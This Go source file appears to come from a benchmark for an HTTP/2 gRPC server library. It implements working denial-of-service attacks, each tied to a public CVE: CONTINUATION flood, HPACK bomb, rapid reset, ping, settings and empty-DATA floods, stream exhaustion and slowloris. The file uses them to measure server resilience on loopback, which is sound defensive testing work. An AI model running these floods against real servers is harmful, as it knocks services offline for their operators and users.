package main

import (
	"bytes"
	"context"
	"fmt"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"
)

// The attacks of -attacks: each floods or stalls a server from raw HTTP/2
// connections on loopback, after the public descriptions of the HTTP/2
// attacks (the 2019 CVEs, rapid reset of 2023, the CONTINUATION flood of
// 2024, slowloris, HPACK bombs). The attack suite in the repository's
// tests asserts leangrpc's reactions; this measures what they cost each
// server: memory, CPU and the latency of a legitimate client calling all
// along.

// attack is one attack: run attacks the server at addr until ctx ends.
type attack struct {
	name string
	run  func(ctx context.Context, addr string, st *attackStats)
}

var allAttacks = []attack{
	{"continuation", continuationFlood},
	{"hpack-bomb", hpackBomb},
	{"rapid-reset", rapidReset},
	{"many-streams", manyStreams},
	{"slowloris", slowloris},
	{"ping-flood", pingFlood},
	{"settings-flood", settingsFlood},
	{"empty-data", emptyDataFlood},
}

func attackNames() []string {
	var names []string
	for _, a := range allAttacks {
		names = append(names, a.name)
	}
	return names
}

// attackStats counts what the attacking connections met; the attacking
// process reports it as JSON.
type attackStats struct {
	mu        sync.Mutex
	Conns     int            // connections opened
	Closed    int            // connections the server closed
	Silent    int            // of those, closed before the server sent a byte: refused as accepted
	GoAways   map[string]int // GOAWAY codes received
	LastClose time.Duration  // slowloris: when the last stalled connection was closed
	Held      int            // slowloris: stalled connections open at the end
}

func (st *attackStats) opened() {
	st.mu.Lock()
	st.Conns++
	st.mu.Unlock()
}

// ended records how c ended: closed by the server (with a GOAWAY's code
// if one came, or before it sent anything) or by the attacker when the
// attack stopped. A connection closed by the server that is neither
// counted among the GOAWAYs nor as silent ended in a plain close.
func (st *attackStats) ended(c *attackConn, byServer bool) {
	code, away := c.goAwayCode()
	st.mu.Lock()
	defer st.mu.Unlock()
	if byServer {
		st.Closed++
		if !c.heard.Load() {
			st.Silent++
		}
	}
	if away {
		if st.GoAways == nil {
			st.GoAways = map[string]int{}
		}
		name := errCodeName(code)
		if c.goAwayDebug != "" {
			name += " " + strconvQuote(c.goAwayDebug)
		}
		st.GoAways[name]++
	}
}

// reaction summarizes the server's answers for the report.
func (st *attackStats) reaction() string {
	st.mu.Lock()
	defer st.mu.Unlock()
	var codes []string
	for k, v := range st.GoAways {
		codes = append(codes, fmt.Sprintf("GOAWAY %s ×%d", k, v))
	}
	sort.Strings(codes)
	s := fmt.Sprintf("%d conns, %d closed by the server", st.Conns, st.Closed)
	if st.Silent > 0 {
		s += fmt.Sprintf(" (%d before it sent a byte)", st.Silent)
	}
	if len(codes) > 0 {
		s += "; " + strings.Join(codes, ", ")
	}
	return s
}

// reconnecting runs n attacking connections, each running body until the
// server closes it or ctx ends, then opening another while ctx lasts: an
// attacker who comes back.
func reconnecting(ctx context.Context, addr string, st *attackStats, n int, read bool, body func(ctx context.Context, c *attackConn)) {
	reconnectingAcked(ctx, addr, st, n, read, false, body)
}

// reconnectingAcked is reconnecting with dialAttackAcked's acked.
func reconnectingAcked(ctx context.Context, addr string, st *attackStats, n int, read, acked bool, body func(ctx context.Context, c *attackConn)) {
	var wg sync.WaitGroup
	for range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for ctx.Err() == nil {
				c, err := dialAttackAcked(addr, true, read, acked)
				if err != nil {
					sleepCtx(ctx, 10*time.Millisecond)
					continue
				}
				st.opened()
				body(ctx, c)
				if ctx.Err() == nil {
					// The write failed: wait for the server's close to be
					// seen before counting the connection.
					select {
					case <-c.closed:
					case <-time.After(time.Second):
					case <-ctx.Done():
					}
				}
				byServer := c.isClosed()
				c.close()
				<-c.closed
				st.ended(c, byServer)
			}
		}()
	}
	wg.Wait()
}

func sleepCtx(ctx context.Context, d time.Duration) {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-t.C:
	case <-ctx.Done():
	}
}

// writeUntil writes next() until a write fails, the server closes or ctx
// ends.
func writeUntil(ctx context.Context, c *attackConn, next func() []byte) {
	for ctx.Err() == nil && !c.isClosed() {
		if err := c.write(next()); err != nil {
			return
		}
	}
}

// continuationFlood: 16 connections, each a HEADERS frame without
// END_HEADERS followed by CONTINUATION frames that never end the block
// (CVE-2024-27316 and its siblings).
func continuationFlood(ctx context.Context, addr string, st *attackStats) {
	block := requestBlock(unaryMethod)
	// Fields of 112 bytes, as many as fit the default SETTINGS_MAX_FRAME_SIZE
	// (16 KiB): a larger frame would be refused for its size, not for the
	// flood.
	field := appendLiteral(nil, "x-filler", strings.Repeat("f", 100), false)
	var filler []byte
	for len(filler)+len(field) <= 16<<10 {
		filler = append(filler, field...)
	}
	var batch []byte
	for range 4 {
		batch = appendFrame(batch, frameContinuation, 0, 1, filler)
	}
	reconnectingAcked(ctx, addr, st, 16, true, true, func(ctx context.Context, c *attackConn) {
		if c.write(appendFrame(nil, frameHeaders, 0, 1, block)) != nil {
			return
		}
		writeUntil(ctx, c, func() []byte { return batch })
	})
}

// hpackBomb: a 4,000-byte header value put in the dynamic table once,
// then requests whose blocks refer to it 4,000 times each (one byte a
// reference): 16 MB of header list per 4 KB on the wire.
func hpackBomb(ctx context.Context, addr string, st *attackStats) {
	const refs = 4000
	base := requestBlock(unaryMethod)
	first := appendLiteral(append([]byte(nil), base...), "x-bomb", strings.Repeat("b", 4000), true)
	bomb := append(append([]byte(nil), base...), bytes.Repeat([]byte{0x80 | 62}, refs)...)
	reconnecting(ctx, addr, st, 4, true, func(ctx context.Context, c *attackConn) {
		if c.write(appendFrame(nil, frameHeaders, flagEndHeaders|flagEndStream, 1, first)) != nil {
			return
		}
		id := uint32(3)
		writeUntil(ctx, c, func() []byte {
			var b []byte
			for range 4 {
				b = appendFrame(b, frameHeaders, flagEndHeaders|flagEndStream, id, bomb)
				id += 2
			}
			return b
		})
	})
}

// rapidReset: requests each reset by the client right after it is sent
// (CVE-2023-44487), on 4 connections that reconnect when closed.
func rapidReset(ctx context.Context, addr string, st *attackStats) {
	block := requestBlock(unaryMethod)
	reconnecting(ctx, addr, st, 4, true, func(ctx context.Context, c *attackConn) {
		id := uint32(1)
		var b []byte
		writeUntil(ctx, c, func() []byte {
			b = b[:0]
			for range 100 {
				b = appendFrame(b, frameHeaders, flagEndHeaders, id, block)
				b = appendFrame(b, frameRSTStream, 0, id, []byte{0, 0, 0, errCodeCancel})
				id += 2
			}
			return b
		})
	})
}

// manyStreams: one connection opens up to 100,000 streaming calls and
// keeps them open, never ending its side.
func manyStreams(ctx context.Context, addr string, st *attackStats) {
	block := requestBlock(streamMethod)
	reconnecting(ctx, addr, st, 1, true, func(ctx context.Context, c *attackConn) {
		id := uint32(1)
		for id < 200_000 && ctx.Err() == nil {
			var b []byte
			for range 1000 {
				b = appendFrame(b, frameHeaders, flagEndHeaders, id, block)
				id += 2
			}
			if c.write(b) != nil {
				return
			}
		}
		select {
		case <-ctx.Done():
		case <-c.closed:
		}
	})
}

// pingFlood: PING frames from connections that never read the
// acknowledgements (CVE-2019-9512).
func pingFlood(ctx context.Context, addr string, st *attackStats) {
	var batch []byte
	for range 1000 {
		batch = appendFrame(batch, framePing, 0, 0, make([]byte, 8))
	}
	reconnecting(ctx, addr, st, 4, false, func(ctx context.Context, c *attackConn) {
		writeUntil(ctx, c, func() []byte { return batch })
	})
}

// settingsFlood: SETTINGS frames from connections that never read the
// acknowledgements (CVE-2019-9515).
func settingsFlood(ctx context.Context, addr string, st *attackStats) {
	var batch []byte
	for range 1000 {
		batch = appendFrame(batch, frameSettings, 0, 0, nil)
	}
	reconnecting(ctx, addr, st, 4, false, func(ctx context.Context, c *attackConn) {
		writeUntil(ctx, c, func() []byte { return batch })
	})
}

// emptyDataFlood: empty DATA frames without END_STREAM on an open call
// (CVE-2019-9518).
func emptyDataFlood(ctx context.Context, addr string, st *attackStats) {
	block := requestBlock(streamMethod)
	var batch []byte
	for range 1000 {
		batch = appendFrame(batch, frameData, 0, 1, nil)
	}
	reconnecting(ctx, addr, st, 4, true, func(ctx context.Context, c *attackConn) {
		if c.write(appendFrame(nil, frameHeaders, flagEndHeaders, 1, block)) != nil {
			return
		}
		writeUntil(ctx, c, func() []byte { return batch })
	})
}

// slowlorisConns is how many stalled connections slowloris holds.
const slowlorisConns = 512

// slowloris: 512 connections that stop early: a third send nothing, a
// third half the preface, a third the preface and SETTINGS and then half
// a frame header. None reconnects; the report says how many the server
// closed and when it closed the last.
func slowloris(ctx context.Context, addr string, st *attackStats) {
	start := time.Now()
	var wg sync.WaitGroup
	for i := range slowlorisConns {
		c, err := dialAttack(addr, false, false)
		if err != nil {
			continue
		}
		st.opened()
		switch i % 3 {
		case 1:
			c.write([]byte(clientPreface[:12]))
		case 2:
			c.write(append(appendFrame([]byte(clientPreface), frameSettings, 0, 0, nil), 0, 0, 8, framePing))
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			byServer := false
			select {
			case <-c.closed:
				byServer = true
				st.mu.Lock()
				if d := time.Since(start); d > st.LastClose {
					st.LastClose = d
				}
				st.mu.Unlock()
			case <-ctx.Done():
				st.mu.Lock()
				st.Held++
				st.mu.Unlock()
			}
			c.close()
			<-c.closed
			st.ended(c, byServer)
		}()
	}
	wg.Wait()
}

// strconvQuote quotes a GOAWAY's debug data for the report.
func strconvQuote(s string) string { return strconv.Quote(s) }
